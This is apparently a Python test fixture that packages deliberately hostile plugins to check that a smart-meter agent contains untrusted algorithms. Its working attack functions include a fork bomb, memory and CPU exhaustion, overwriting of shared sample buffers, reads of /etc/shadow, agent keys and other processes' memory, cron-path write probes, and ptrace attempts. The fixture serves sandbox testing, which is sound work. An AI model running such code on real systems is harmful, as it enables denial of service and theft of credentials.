"""
Algorithms that try to harm the meter they run on, each in one way; what a DSO must never have to fear of a package.

Each is an algorithm of its own (`ATTACKS` names them). What it could get hold of it tries to publish, so that a leak
shows on the broker; a refusal is swallowed and the attack goes on, as a real one would.
"""

import contextlib
import ctypes
import mmap
import os
import socket
import time
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any, ClassVar

from algorithms.api.algorithm import Algorithm, Context
from algorithms.api.manifest import AlgorithmInfo
from algorithms.api.records import Kind, Record, Result
from algorithms.api.samples import SampleBlock

PTRACE_ATTACH, PROCESS_VM_READV = 16, 310
_kept: list[Any] = []


def fork_bomb() -> Iterator[bytes]:
    """Fork as often as it can; what is born does not live long, for the sake of machines where this succeeds."""
    for _ in range(100):
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                time.sleep(1.0)
                os._exit(0)
            yield b"LEAK forked"


def memory_hog() -> Iterator[bytes]:
    """Take memory until there is none."""
    while True:
        _kept.append(bytearray(os.urandom(1 << 16) * 64))


def busy_loop() -> Iterator[bytes]:
    """Never come back."""
    while True:
        pass


def endless_output() -> Iterator[bytes]:
    """Say more than anybody can carry, with every block."""
    for _ in range(2000):
        yield b"x" * 4000


def ring_scribbler() -> Iterator[bytes]:
    """Write over the samples that everybody reads."""
    for descriptor in range(3, 64):
        with contextlib.suppress(OSError, ValueError):
            size = os.fstat(descriptor).st_size
            if size:
                os.pwrite(descriptor, b"\xff" * min(size, 1 << 20), 0)
        with contextlib.suppress(OSError, ValueError):
            mapped = mmap.mmap(descriptor, 0, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
            mapped[:] = b"\xff" * len(mapped)
        with contextlib.suppress(OSError):
            os.ftruncate(descriptor, 0)
    yield b""


def dialler() -> Iterator[bytes]:
    """Open a socket to whoever listens on this machine, and ask the brokers for everything."""
    for family, address in (
        (socket.AF_INET, ("127.0.0.1", 1883)),
        (socket.AF_INET, ("192.0.2.1", 443)),
        (socket.AF_UNIX, "/run/dbus/system_bus_socket"),
        (socket.AF_NETLINK, (0, 0)),
    ):
        with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_STREAM) as channel:
            channel.settimeout(0.2)
            channel.connect(address)
            yield b"LEAK connected"


def reader() -> Iterator[bytes]:
    """Read what is not its own: the machine's users, the agent's keys and environment, other processes' memory."""
    places = ["/etc/passwd", "/etc/shadow", "/etc/tresma/agent.yaml", "/proc/self/environ"]
    for pid in (os.getppid(), 1):
        places += [f"/proc/{pid}/environ", f"/proc/{pid}/mem", f"/proc/{pid}/maps", f"/proc/{pid}/cmdline"]
    for place in places:
        with contextlib.suppress(OSError):
            yield b"LEAK " + place.encode() + b" " + Path(place).read_bytes()[:2000]
    for folder in ("/", "/tmp", "/etc", "/root", "/var/lib"):
        with contextlib.suppress(OSError):
            yield b"LEAK " + folder.encode() + b" " + repr(os.listdir(folder)).encode()[:2000]  # noqa: PTH208


def writer() -> Iterator[bytes]:
    """Leave something behind that is run later."""
    for place in ("/tmp/hostile", "/dev/shm/hostile", "/etc/cron.d/hostile", "hostile", __file__, os.__file__):
        with contextlib.suppress(OSError), Path(place).open("ab"):  # opened only, where this succeeds it is code
            yield b"LEAK could write " + place.encode()


def killer() -> Iterator[bytes]:
    """End the agent, its fork server, its sampler and the rest, as far as it may."""
    for pid in (os.getppid(), -1, 0, *range(max(2, os.getpid() - 50), os.getpid())):
        with contextlib.suppress(OSError):
            os.kill(pid, 0)  # asks for the same right as SIGKILL, and spares machines where it is given
            yield b"LEAK may signal " + str(pid).encode()


def tracer() -> Iterator[bytes]:
    """Look into, and write into, processes of the agent."""
    library = ctypes.CDLL(None, use_errno=True)
    for pid in (os.getppid(), *range(max(2, os.getpid() - 50), os.getpid())):
        if library.ptrace(ctypes.c_long(PTRACE_ATTACH), ctypes.c_int(pid), None, None) == 0:
            yield b"LEAK traces"
        if library.syscall(ctypes.c_long(PROCESS_VM_READV), ctypes.c_int(pid), None, 0, None, 0, 0) >= 0:
            yield b"LEAK reads memory"


ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
    "fork-bomb": fork_bomb,
    "memory-hog": memory_hog,
    "busy-loop": busy_loop,
    "endless-output": endless_output,
    "ring-scribbler": ring_scribbler,
    "dialler": dialler,
    "reader": reader,
    "writer": writer,
    "killer": killer,
    "tracer": tracer,
}
STUBBORN = ("memory-hog", "busy-loop", "endless-output")
"""Those that do not give up by themselves, and so must be ended."""


class Hostile(Algorithm):
    """Attacks as its class says, with every block of samples."""

    attack: ClassVar[str]

    def start(self, context: Context, restored: bytes | None) -> None:  # noqa: ARG002
        """Begin as though nothing were wrong."""
        self.terminal = context.terminal

    def process(self, record: SampleBlock | Record) -> Sequence[Record]:
        """Attack, and tell what came of it."""
        return [
            Result(f"{self.attack}/1", self.terminal, record.time_ns, {"got": got.decode("latin-1")})
            for got in ATTACKS[self.attack]()
            if got
        ]


def _made(attack: str) -> type[Hostile]:
    info = AlgorithmInfo(
        name=attack,
        version="1.0.0",
        summary=(ATTACKS[attack].__doc__ or "").strip(),
        consumes=(Kind.SAMPLES,),
        produces=(Kind.RESULT,),
        contents=(f"{attack}/1",),
    )
    return type(class_name(attack), (Hostile,), {"attack": attack, "info": info, "__module__": __name__})


def class_name(attack: str) -> str:
    """Name the class of an attack."""
    return "".join(part.capitalize() for part in attack.split("-"))


globals().update({class_name(attack): _made(attack) for attack in ATTACKS})


def installed_in(folder: Path) -> tuple[str, ...]:
    """Install all of them in a folder; return what is to be put before an agent's command for it to find them."""
    info = folder / "test_hostile_algorithms-1.0.dist-info"
    info.mkdir(parents=True, exist_ok=True)
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: test-hostile-algorithms\nVersion: 1.0\n")
    lines = (f"{attack} = {__name__}:{class_name(attack)}" for attack in ATTACKS)
    (info / "entry_points.txt").write_text("\n".join(["[tresma.algorithms]", *lines, ""]))
    return "env", f"PYTHONPATH={folder}"
